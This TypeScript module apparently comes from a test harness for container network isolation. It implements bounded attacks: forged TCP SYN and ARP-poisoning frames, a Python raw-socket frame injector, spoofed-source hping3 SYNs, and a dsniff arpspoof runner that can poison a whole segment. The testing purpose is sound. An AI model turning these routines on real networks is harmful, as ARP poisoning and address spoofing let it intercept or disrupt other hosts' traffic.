/**
 * Attacks a container with CAP_NET_RAW could make, run from inside its
 * network namespace: hand-built Ethernet frames with any source MAC and IP
 * (built with packets.ts, put on the wire through an AF_PACKET socket by a
 * few lines of Python from the standard library), hping3 with a spoofed
 * source address, and arpspoof. Every attack is bounded in time and count.
 */
import { nsRun, startBackground, sleep, type Ns, type RunResult } from './probes.js';
import { arpReply, gratuitousArp, tcpFrame } from './packets.js';

/** A TCP SYN frame with whatever Ethernet and IP source the attacker chooses. */
export function synFrame(o: { srcMac: string; dstMac: string; src: string; dst: string; sport: number; dport: number }): Buffer {
  return tcpFrame({ ...o, flags: 'S', seq: 0x0badcafe });
}

/**
 * Forged ARP answers claiming `claimIp` is at `claimMac`: a unicast reply to
 * the victim and a gratuitous broadcast (as request and as reply).
 */
export function arpPoisonFrames(o: { claimIp: string; claimMac: string; victimIp: string; victimMac: string }): Buffer[] {
  return [
    arpReply({ srcMac: o.claimMac, srcIp: o.claimIp, dstMac: o.victimMac, dstIp: o.victimIp }),
    gratuitousArp({ mac: o.claimMac, ip: o.claimIp, op: 'reply' }),
    gratuitousArp({ mac: o.claimMac, ip: o.claimIp, op: 'request' }),
  ];
}

// ---------------------------------------------------------------- injection

const SENDER = `
import socket, sys, time
iface, count, gap = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
frames = [bytes.fromhex(l) for l in sys.stdin.read().split()]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
n = 0
for i in range(count):
    for f in frames:
        s.send(f)
        n += 1
    if gap > 0:
        time.sleep(gap)
print("sent", n)
`;

/**
 * Puts raw frames on `iface` from inside a namespace (AF_PACKET, as a
 * container with CAP_NET_RAW can): each frame `count` times, `gapMs` apart.
 */
export async function injectFrames(ns: Ns, iface: string, frames: Buffer[], count = 3, gapMs = 100): Promise<RunResult> {
  const r = await nsRun(ns, '/usr/bin/python3', ['-c', SENDER, iface, String(count), String(gapMs / 1000)], {
    input: frames.map((f) => f.toString('hex')).join('\n'),
    timeoutMs: 5000 + count * gapMs,
  });
  if (r.code !== 0 || !/sent \d+/.test(r.stdout)) throw new Error(`frame injection in ${ns ?? 'host'} failed: exit ${r.code} ${r.stderr}`);
  return r;
}

// ------------------------------------------------------------------- hping3

/**
 * hping3 TCP SYNs with a forged source IP (-a), fixed source port (so a
 * capture can pick them out), bounded count. The attacker's kernel must know
 * the destination's MAC (a neighbour entry) or nothing leaves: see
 * pinNeighbour().
 */
export async function hping3Spoof(ns: Ns, o: { iface: string; spoofIp: string; dstIp: string; dport: number; sport: number; count?: number }): Promise<RunResult> {
  const count = o.count ?? 5;
  return nsRun(
    ns,
    'hping3',
    ['-I', o.iface, '-S', '-a', o.spoofIp, '-s', String(o.sport), '-k', '-p', String(o.dport), '-c', String(count), '-i', 'u100000', o.dstIp],
    { timeoutMs: 5000 + count * 200 },
  );
}

/** A permanent neighbour entry: the attacker "knows" the victim's MAC without asking ARP. */
export async function pinNeighbour(ns: Ns, iface: string, ip: string, mac: string): Promise<void> {
  const r = await nsRun(ns, 'ip', ['neigh', 'replace', ip, 'lladdr', mac, 'dev', iface, 'nud', 'permanent'], { timeoutMs: 3000 });
  if (r.code !== 0) throw new Error(`ip neigh replace ${ip} in ${ns}: ${r.stderr}`);
}

// ----------------------------------------------------------------- arpspoof

/**
 * Runs dsniff's arpspoof for durationMs and kills it with SIGKILL (so it
 * does not re-ARP the true addresses on its way out). `target` omitted:
 * poisons every host on the segment (broadcast replies).
 */
export async function arpspoof(ns: Ns, o: { iface: string; host: string; target?: string; durationMs?: number }): Promise<{ output: string; exited: boolean }> {
  const args = ['-i', o.iface, ...(o.target ? ['-t', o.target] : []), o.host];
  const bg = startBackground(ns, 'arpspoof', args);
  await sleep(o.durationMs ?? 3000);
  const exited = !bg.running;
  await bg.stop('SIGKILL');
  return { output: `${bg.stdout}${bg.stderr}`.trim(), exited };
}
